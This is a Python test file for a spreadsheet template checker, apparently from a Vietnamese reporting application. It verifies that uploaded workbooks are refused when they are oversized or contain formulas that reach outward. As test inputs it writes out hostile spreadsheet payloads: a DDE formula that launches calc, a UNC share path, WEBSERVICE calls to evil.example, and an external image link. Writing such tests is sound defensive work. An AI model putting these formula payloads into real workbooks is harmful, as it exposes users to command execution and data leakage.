"""Workbooks that ask for more than they say, or for what is elsewhere, are refused at once."""

import io

import openpyxl
import pytest
from openpyxl.drawing.image import Image
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from PIL import Image as Picture

from caunoi.base.errors import Invalid
from caunoi.base.workbook_files import NotAWorkbook, TooLarge
from caunoi.reports.annex import check
from caunoi.reports.tests.test_annex import OWN, REPORT, YEAR, adopted, annex_of, saved, written
from caunoi.reports.tests.test_own_forms import TYPE, part_of, with_parts

SHEET = "xl/worksheets/sheet1.xml"
ROW = {"A5": "{{ moi_don_vi.ten }}", "C5": "{{ moi_don_vi.members_total }}"}


def checked(data):
    return check(REPORT, data, "phụ lục.xlsx")


def changed(old, new, part=SHEET):
    xml = part_of(OWN, part).decode()
    assert old in xml
    return with_parts(OWN, **{part: xml.replace(old, new, 1).encode()})


def with_row(xml):
    return changed("</sheetData>", f"{xml}</sheetData>")


@pytest.mark.parametrize(
    "data",
    [
        with_row('<row r="400000"><c r="H400000" s="1"/></row>'),
        with_row('<row r="400000"><x r="H400000" s="1"/></row>'),
        with_row('<row r="400000"><c/><c/><c/></row>'),
        changed("<mergeCell ", '<mergeCell ref="C30:XFD1048576"/><mergeCell '),
        changed("<mergeCell ", '<mergeCell ref="A30:Z6000"/>' * 5 + "<mergeCell "),
        changed("<hyperlink ", '<hyperlink ref="C30:XFD1048576" location="A1"/><hyperlink '),
        with_parts(OWN, **{"xl/c.xml": b'<comments><comment ref="H400000"/></comments>'}),
    ],
    ids=range(7),
)
def test_a_small_file_that_would_be_laid_out_over_a_whole_sheet_is_refused(data):
    with pytest.raises(Invalid, match="reaches as far as"):
        checked(data)


def test_the_sheet_and_its_farthest_cell_are_named():
    with pytest.raises(Invalid, match=r"Phụ lục.*H400000"):
        checked(with_row('<row r="400000"><c r="H400000" s="1"/></row>'))


def test_whole_rows_and_columns_may_have_a_look():
    assert checked(with_row('<row r="1048576" ht="15" customHeight="1"/>'))
    assert checked(changed("<sheetData>", '<cols><col min="1" max="16384" width="9"/></cols>'
                           "<sheetData>"))  # fmt: skip


def test_very_many_looks_or_repeated_cells_are_refused():
    styles = part_of(OWN, "xl/styles.xml").replace(
        b"</cellXfs>", b"<xf/>" * 200_000 + b"</cellXfs>"
    )
    with pytest.raises(TooLarge, match="looks"):
        checked(with_parts(OWN, **{"xl/styles.xml": styles}))
    with pytest.raises(TooLarge, match="unpack"):
        checked(with_parts(OWN, **{"xl/styles.xml": b" " * (31 * 1024 * 1024)}))
    wide = openpyxl.Workbook()
    for row in range(1, 21):
        for column in range(1, 61):
            wide.active.cell(row, column, "{{ moi_don_vi.tt }}")
    with pytest.raises(TooLarge, match="more than"):
        checked(saved(wide))


def ruled(sheet):
    sheet.conditional_formatting.add("C5", FormulaRule(['WEBSERVICE("http://e.example/"&C5)="x"']))


def listed(sheet):
    sheet.add_data_validation(DataValidation("list", "=[1]S!$A$1:$A$9", sqref="G5"))


def named(sheet):
    sheet.parent.defined_names["x"] = DefinedName("x", attr_text='WEBSERVICE("http://e.example")')


@pytest.mark.parametrize(
    ("cells", "change"),
    [
        ({"B1": "=cmd|'/C calc'!A0"}, None),
        ({"B1": r"='\\evil\share\[a.xlsx]S'!A1"}, None),
        ({"B1": "='a\"b'!A1+cmd|'/C calc'!A0+'c\"d'!A1"}, None),
        ({"B1": '=_xlfn.WEBSERVICE("http://evil.example")'}, None),
        ({}, ruled),
        ({}, listed),
        ({}, named),
    ],
    ids=range(7),
)
def test_a_formula_that_asks_another_file_or_program_is_refused(cells, change):
    with pytest.raises(Invalid, match="fetches nothing"):
        checked(written({"A1": "{{ don_vi }}", **cells}, change))


def test_signs_within_words_fetch_nothing():
    assert checked(written({"A1": "{{ don_vi }}", "B1": '=IF(A1="[x]|CALL(","""|","b")'}))


@pytest.mark.parametrize("mode", ["External", "external"])
def test_of_what_is_outside_only_a_link_to_be_followed_is_kept(mode):
    told = f'Id="r9" Type="{TYPE}image" Target="http://evil.example/i.png" TargetMode="{mode}"'
    relation = f"<Relationships><Relationship {told}/></Relationships>"
    with pytest.raises(NotAWorkbook, match="another file"):
        checked(with_parts(OWN, **{"xl/drawings/_rels/d.xml.rels": relation.encode()}))


def test_a_sheet_with_a_comma_in_its_name_keeps_its_paper(house):
    def area(sheet):
        sheet.title, sheet.print_area = "Sở A, B", "A1:C7"

    adopted(house, written(ROW, area))
    assert annex_of(house).print_area == "'Sở A, B'!$A$1:$C$9"


def test_what_cannot_be_filled_is_not_adopted(monkeypatch):
    def broken(*_about):
        raise KeyError

    monkeypatch.setattr("caunoi.base.sheets_filled.grow", broken)
    with pytest.raises(Invalid, match="cannot be filled"):
        checked(OWN)


def test_what_would_end_before_its_end_is_refused_with_the_number(house, monkeypatch):
    monkeypatch.setattr("caunoi.reports.gathered.MOST_BELOW", 2)
    adopted(house, written(ROW))
    with pytest.raises(Invalid, match=r"2 đơn vị trực thuộc.*3"):
        annex_of(house)
    adopted(house, written({"A1": "{{ moi_nam.ten }}"}))
    assert annex_of(house)["A1"].value == "2020"
    with pytest.raises(Invalid, match=r"8 năm.*14"):
        annex_of(house, period=YEAR.parse("2011..2024"))


def test_rules_lists_names_and_pictures_follow_what_they_speak_of(house):
    def more(sheet):
        rule, choice = FormulaRule(["C5>$C$6"]), DataValidation("list", "$H$6:$H$7", sqref="G6")
        sheet.conditional_formatting.add("C5", rule)
        sheet.add_data_validation(choice)
        picture = io.BytesIO()
        Picture.new("RGB", (9, 9)).save(picture, "png")
        sheet.add_image(Image(picture), "B7")
        other = sheet.parent.create_sheet("Khác")
        other.defined_names["cong"] = DefinedName("cong", attr_text="'Phụ lục'!$C$6")

    adopted(house, written(ROW, more))
    sheet = annex_of(house)
    [rule] = [rule for area in sheet.conditional_formatting for rule in area.rules]
    assert rule.formula == ["C5>$C$8"]
    assert sheet.data_validations.dataValidation[0].formula1 == "$H$8:$H$9"
    assert sheet._images[0].anchor._from.row + 1 == 9
    assert sheet.parent["Khác"].defined_names["cong"].attr_text == "'Phụ lục'!$C$8"
